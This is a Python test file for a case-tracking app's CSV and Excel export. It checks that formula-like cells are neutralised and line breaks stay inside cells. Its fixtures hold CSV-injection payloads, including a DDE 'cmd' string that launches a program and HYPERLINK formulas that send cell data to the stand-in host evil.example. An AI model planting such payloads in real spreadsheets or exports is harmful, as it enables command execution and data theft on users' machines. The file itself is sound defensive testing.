"""The pages' exports (components.export, what the overdue and workload pages download) read
back by Python's csv module and by openpyxl: no cell a spreadsheet would run as a formula, and
a CR or LF inside a value stays inside its cell instead of starting a new row."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import openpyxl

from components.export import BOM, Table, case_table, csv_text, xlsx_bytes
from data.case_lists import ActiveFlag, ListedCase
from rules.clock import zone

TZ = zone("Asia/Bishkek")
NOW = datetime(2026, 3, 11, 6, 0, tzinfo=UTC)
HOSTILE = {
    "unit": "=cmd|'/C calc'!A0",
    "officer": "@SUM(A1)",
    "flag_comment": "\r=1+2",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _case(**changes: object) -> ListedCase:
    fields: dict[str, object] = {
        "reg_no": "KUP-CSV-1",
        "district": "41711000000000",
        "region": "KG-GB",
        "category": "theft",
        "kind": "crime",
        "status": "overdue",
        "received_at": NOW - timedelta(days=3),
        "registered_at": NOW - timedelta(days=3),
        "deadline": NOW,
        "decision": None,
        "decided_at": None,
        "unit": HOSTILE["unit"],
        "officer": HOSTILE["officer"],
        "flagged": True,
        "priority": "normal",
        "late_registration": False,
        "breached": False,
        "breach_seconds": 0,
        "summary": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "flag": ActiveFlag(1, HOSTILE["flag_comment"], "-pros", NOW),
    }
    return ListedCase(**{**fields, **changes})  # type: ignore[arg-type]


def _read(text: str, delimiter: str = ";") -> list[list[str]]:
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text.removeprefix(BOM), newline=""), delimiter=delimiter))


def _cases(lang: str = "ru") -> Table:
    cases = [_case(), _case(reg_no="KUP-CSV-2", unit="-2+3")]
    return case_table((c.as_dict() for c in cases), lang, TZ)


def test_case_csv_neutralises_formulas_and_keeps_rows_whole() -> None:
    rows = _read(csv_text(_cases(), "ru"))
    assert len(rows) == 3  # header and two cases: the CR in a flag comment starts no row
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["Подразделение"] == "'=cmd|'/C calc'!A0"
    assert first["Исполнитель"] == "'@SUM(A1)"
    assert first["Отметка: комментарий"] == "'\r=1+2"
    assert first["Отметка: кто поставил"] == "'-pros"  # text that merely starts with "-"
    assert dict(zip(rows[0], rows[2], strict=True))["Подразделение"] == "'-2+3"
    for row in rows[1:]:
        assert not any(cell.startswith(FORMULA_START) for cell in row)


def test_case_workbook_keeps_formula_like_text_as_text() -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(_cases(), "ru"))).active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    first = dict(zip(header, [c for c in sheet[2]], strict=True))
    for column, value in (
        ("Подразделение", HOSTILE["unit"]),
        ("Исполнитель", HOSTILE["officer"]),
        ("Отметка: кто поставил", "-pros"),
    ):
        cell = first[column]
        assert (cell.value, cell.data_type) == (value, "s"), column  # text, as it came
    assert first["Отметка: комментарий"].value.endswith("=1+2")
    for row in sheet.iter_rows(min_row=2):
        assert all(cell.data_type != "f" for cell in row)  # no formula anywhere


def test_any_csv_quotes_line_breaks_and_neutralises_every_leading_formula_character() -> None:
    values = [
        '=HYPERLINK("http://evil.example","x")',
        "+1",
        "-1",
        "@A1",
        "\t=1",
        "\r=1",
        "a\rb",
        "a\nb",
        "a\r\nb",
        "a;b",
        "plain",
    ]
    text = csv_text(Table(["v", "n"], [[v, i] for i, v in enumerate(values)]), "ru")
    rows = _read(text)
    assert rows[0] == ["v", "n"]
    assert [(v, int(n)) for v, n in rows[1:]] == [
        ("'" + v if v[0] in "=+-@\t\r" else v, i) for i, v in enumerate(values)
    ]
    assert text.endswith("10\n")  # rows end in LF
